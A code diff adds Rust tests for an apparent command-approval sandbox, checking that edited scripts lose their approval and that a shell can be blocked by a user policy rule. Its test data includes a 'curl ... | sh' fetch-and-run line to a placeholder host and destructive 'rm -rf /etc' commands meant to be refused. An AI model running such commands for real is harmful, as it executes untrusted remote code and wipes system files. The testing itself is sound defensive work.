@@ -189,6 +189,57 @@ assert code != 123, seen
 }
 
 #[test]
+fn a_script_that_changed_since_is_not_what_was_approved() {
+    let scene = Scene::with("echo 'echo one > one' > script.sh; echo x > other");
+    let program = r"
+import subprocess
+command = ['sh', '-c', 'cd .; sh script.sh; curl -fsS https://host.invalid/x | sh']
+def says(text, file='script.sh'):
+    def change(seen):
+        with open(file, 'w') as script:
+            script.write(text)
+    return change
+def code(change):
+    code, seen = answer(b'y\n', ['--net', 'host'], command, change)
+    assert (code == 123) == (b'approved' in seen), (code, seen)
+    return code
+assert code(says('echo two > two\n')) == 123
+assert code(says('echo two > two\n')) != 123, 'it is the same as before'
+assert code(says('anything', 'other')) != 123, 'no part of it'
+# The sandbox is there now, and has its own version of the script.
+def inside(text):
+    def change(seen):
+        subprocess.run([os.environ['CTRLZ'], 'run', '--', 'sh', '-c', text], check=True)
+    return change
+assert code(inside('echo echo three \\> three > script.sh')) == 123
+assert code(says('echo four > four\n')) != 123, 'the sandbox does not see that'
+assert code(inside('rm script.sh')) == 123
+";
+    python_at_a_terminal(&scene, program).ok();
+    assert_eq!(scene.changes(), ["deleted script.sh", "added three", "added two"]);
+}
+
+#[test]
+fn a_shell_is_judged_like_any_command() {
+    let scene = Scene::new();
+    run(&scene, &[], &["true"]).ok();
+    let shell = |scene: &Scene| {
+        let mut command = scene.ctrlz(["shell"]);
+        command.env("SHELL", "/bin/sh").stdin(std::process::Stdio::null());
+        Outcome::of(&mut command)
+    };
+    shell(&scene).ok();
+    let verdict = newest(&scene)["request"]["verdict"].clone();
+    assert_eq!((&verdict["risk"], &verdict["programs"][0]), (&"low".into(), &"sh".into()));
+    let folder = scene.home.join(".config/ctrlz/policy");
+    std::fs::create_dir_all(&folder).expect("a folder");
+    let pack = "- {id: no-shell, risk: critical, reason: nobody types here, program: sh}\n";
+    std::fs::write(folder.join("mine.yaml"), pack).expect("a pack");
+    shell(&scene).code(123).says(&["mine/no-shell"]);
+    assert_eq!(newest(&scene)["status"], "blocked");
+}
+
+#[test]
 fn a_refusal_is_not_got_around_in_other_words() {
     let scene = Scene::new();
     let (first, again) = (["rm", "-rf", "/etc"], ["rm", "-rf", "/etc/nginx"]);
